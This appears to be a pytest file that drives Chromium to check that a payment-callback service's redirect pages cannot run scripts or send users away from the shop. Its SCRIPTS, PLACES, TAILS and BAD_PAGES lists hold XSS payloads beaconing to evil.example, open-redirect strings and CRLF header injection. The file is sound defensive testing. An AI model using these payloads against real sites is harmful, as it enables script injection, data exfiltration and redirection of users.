"""The page in a real browser: whatever a notification, a payment record or an order holds, it leads to the shop."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode

import pytest

from callback.errors import InvalidNotification
from callback.schema import is_id
from callback.text import BLANKS
from tests.support.aws import CHARGE, ORDER, World, sample
from tests.support.browser import TLS, Page, walk
from tests.support.programs import program

# Measuring doubles the time, and what this goes through is measured elsewhere.
pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]

SHOP = "http://shop.example"  # by http: the recorder holds no certificate
HOME = f"shop.example/orders/{ORDER}"
CALL = "navigator.sendBeacon('//evil.example')"
SCRIPTS = [
    f"<script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"--></title></style><script>{CALL}</script>",
    f"&quot;&gt;&lt;script&gt;{CALL}",
    f"\N{FULLWIDTH QUOTATION MARK}\N{FULLWIDTH GREATER-THAN SIGN}\N{FULLWIDTH LESS-THAN SIGN}script>{CALL}</script>",
    f'\0"\0><\0script>{CALL}</script>',
    f"+ACIAPgA8-script+AD4-{CALL}",
    f'"><img src=x onerror="{CALL}">',
    f"'\"><svg onload={CALL}>",
    f'" onfocus="{CALL}" autofocus style="background:url(//evil.example)',
    f'"><iframe src="javascript:{CALL}"></iframe>',
    '"><base href=//evil.example/>',
    '"><meta http-equiv=refresh content="0;url=http://evil.example/">',
    '"><iframe src=//evil.example></iframe><object data=//evil.example></object>',
    '"><link rel=stylesheet href=//evil.example><style>@import"//evil.example"</style>',
    '\N{LINE SEPARATOR}"\r\n><style>*{background:url(//evil.example)}</style>',
]
PLACES = [
    "http://evil.example/",
    "https://evil.example/",
    "https:evil.example",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\",
    "/\t/evil.example/",
    "\x01\n http://evil.example/",
    f"{SHOP}@evil.example/",
    f"{SHOP}.evil.example/",
    f"{SHOP}:8080/",
    "..//evil.example/",
    "http://evil.example\\@shop.example/",
    "http://evil.example#@shop.example/",
    "http://sh\N{CYRILLIC SMALL LETTER O}p.example/",
    "0;url=http://evil.example/",
    "';url=http://evil.example/",
    '"; url="http://evil.example/',
]
# What turns `http://shop.example` into somebody else, were it to follow at once.
TAILS = [
    "@evil.example/",
    ":80@evil.example/",
    ".evil.example/",
    "\\@evil.example/",
    "\t@evil.example/",
    "\r\n.evil.example/",
    "%40evil.example/",
    "%0d%0aLocation:%20http://evil.example/",
    "\N{IDEOGRAPHIC FULL STOP}evil.example/",
    "\N{FULLWIDTH COMMERCIAL AT}evil.example/",
    "\N{FULLWIDTH SOLIDUS}@evil.example/",
    "\N{SOFT HYPHEN}.evil.example/",
]
PLAIN = {"Content-Type": "text/html; charset=utf-8"}
REFRESH = f'<meta http-equiv="refresh" content="0;url=http://{HOME}">'
BAD_PAGES = {
    "script": "<script>navigator.sendBeacon('//script.evil.example')</script>" + REFRESH,
    "location": "<script>location='//location.evil.example'</script>" + REFRESH,
    "error": "<img src=x: onerror=\"navigator.sendBeacon('//error.evil.example')\">" + REFRESH,
    "svg": "<svg onload=\"navigator.sendBeacon('//svg.evil.example')\"></svg>" + REFRESH,
    "image": "<img src=//image.evil.example>" + REFRESH,
    "tls": "<img src=https://tls.evil.example>" + REFRESH,
    "frame": "<iframe src=//frame.evil.example></iframe>" + REFRESH,
    "sheet": "<link rel=stylesheet href=//sheet.evil.example>" + REFRESH,
    "style": "<style>@import '//style.evil.example';</style>" + REFRESH,
    "base": "<base href=//base.evil.example><img src=/>" + REFRESH,
    "refresh": '<meta http-equiv="refresh" content="0;url=http://refresh.evil.example">',
}


@dataclass(frozen=True)
class Case:
    """A page, and how the one request begins that it is to make."""

    page: Page
    leads_to: str

    def held(self, asked: list[str]) -> bool:
        """Whether the page led there and did nothing else."""
        return len(asked) == 1 and asked[0].startswith(self.leads_to)


@pytest.fixture(scope="module")
def browser() -> str:
    """Chromium, by one of its names."""
    return program("chromium", "chromium-browser", "google-chrome", package="chromium")


@pytest.fixture
def shop(world: World) -> World:
    """A world whose shop the recorder can play."""
    world.cold_start(REDIRECT_URL_TEMPLATE=f"{SHOP}/orders/{{orderId}}", REDIRECT_ALLOWED_ORIGINS=SHOP)
    return world


def test_no_field_runs_a_script_or_leads_away(shop: World, browser: str, tmp_path: Path) -> None:
    """Each page makes one request, the one for the shop's page; what holds scripts does also in want of a policy."""
    scripts = [case for payload in SCRIPTS for case in _cases(shop, payload)]
    cases = [case for payload in PLACES + TAILS for case in _cases(shop, payload)]
    cases += scripts + [Case(replace(case.page, headers=PLAIN), case.leads_to) for case in scripts]
    asked = walk(browser, [case.page for case in cases], tmp_path)
    wrong = {case.page.name: found for case, found in zip(cases, asked, strict=False) if not case.held(found)}
    assert wrong == {}
    assert len(asked) == len(cases)


def test_recorder_sees_what_a_bad_page_does(browser: str, tmp_path: Path) -> None:
    """The tests here can fail: each of these pages, none of ours, is caught asking a stranger."""
    asked = walk(browser, [Page(name, body, PLAIN) for name, body in BAD_PAGES.items()], tmp_path)
    strangers = {request for requests in asked for request in requests} - {HOME}
    assert strangers == {f"{name}.evil.example/" for name in BAD_PAGES} - {"tls.evil.example/"} | {TLS}
    assert len(asked) == len(BAD_PAGES)


def test_policy_stops_what_would_get_in(shop: World, browser: str, tmp_path: Path) -> None:
    """Were markup to get into the page after all, the page's headers alone would keep it from doing anything."""
    headers = shop.deliver()["headers"]
    pages = [Page(name, body, headers) for name, body in BAD_PAGES.items() if REFRESH in body]
    assert walk(browser, pages, tmp_path) == [[HOME]] * len(pages)


def _cases(shop: World, payload: str) -> Iterator[Case]:
    """Every way of a payload to a page. All other fields of the notification hold it each time, too."""
    shop.pay(orderId=payload)
    shop.order(orderId=payload, returnUrl=payload)
    ids = {"reference_order": payload, "id": payload}
    ways = {"form": (_form(payload), payload), "ids": (_notification(payload, payload, **ids), payload.strip(BLANKS))}
    for way, (event, order_id) in ways.items():
        if is_id(order_id):
            leads_to = f"shop.example/orders/{quote(order_id, safe='')}"
            yield _case(way, payload, shop.deliver(event), leads_to)
        else:
            with pytest.raises(InvalidNotification):
                shop.deliver(event)
    url, leads_to = (SHOP + payload, HOME) if payload in TAILS else (f"{SHOP}/{payload}", "shop.example/")
    shop.pay()
    shop.order(returnUrl=url)
    yield _case("returnUrl", payload, shop.deliver(_notification(payload, f"returnUrl {quote(payload)}")), leads_to)


def _case(way: str, payload: str, response: dict[str, Any], leads_to: str) -> Case:
    return Case(Page(f"{way}: {payload!r}", response["body"], response["headers"]), leads_to)


def _notification(payload: str, request_id: str, **ids: str) -> dict[str, Any]:
    event = sample("authorized")
    body = _spoilt(json.loads(event["body"]), payload) | {"object": "charge", "id": CHARGE, "reference_order": ORDER}
    event = {**_spoilt(event, payload), "body": json.dumps(body | ids)}
    event["requestContext"]["requestId"] = request_id
    return event


def _form(payload: str) -> dict[str, Any]:
    event = sample("browser-return")
    body = _spoilt(dict(parse_qsl(event["body"], keep_blank_values=True)), payload) | {"objectId": CHARGE}
    event = {**_spoilt(event, payload), "headers": event["headers"], "body": urlencode(body)}
    event["requestContext"]["requestId"] = f"form {quote(payload)}"
    return event


def _spoilt(value: Any, payload: str) -> Any:
    """The same shape with the payload for every text and every null."""
    if isinstance(value, dict):
        return {name: _spoilt(inner, payload) for name, inner in value.items()}
    if isinstance(value, list):
        return [_spoilt(inner, payload) for inner in value]
    return payload if value is None or isinstance(value, str) else value
